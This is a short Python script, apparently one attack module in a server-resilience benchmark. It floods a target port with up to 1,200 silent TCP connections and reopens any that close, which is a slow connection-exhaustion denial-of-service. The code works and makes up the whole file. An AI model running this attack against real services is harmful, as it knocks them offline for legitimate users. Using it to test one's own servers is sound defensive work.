"""More connections than a process usually may have, on which nothing is ever said; new ones for those closed."""

from __future__ import annotations

import socket
import time

from bench.attacks.client import GoesOn, connect, main

CONNECTIONS = 1200


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    open_ones: list[socket.socket] = []
    while goes_on():
        while len(open_ones) < CONNECTIONS and goes_on():
            try:
                open_ones.append(connect(port, source))
            except OSError:
                break  # no more descriptors here, or none there
        time.sleep(0.2)
        open_ones = [each for each in open_ones if _is_open(each)]


def _is_open(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        if connection.recv(65536):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    connection.close()
    return False


if __name__ == "__main__":
    main(attack)
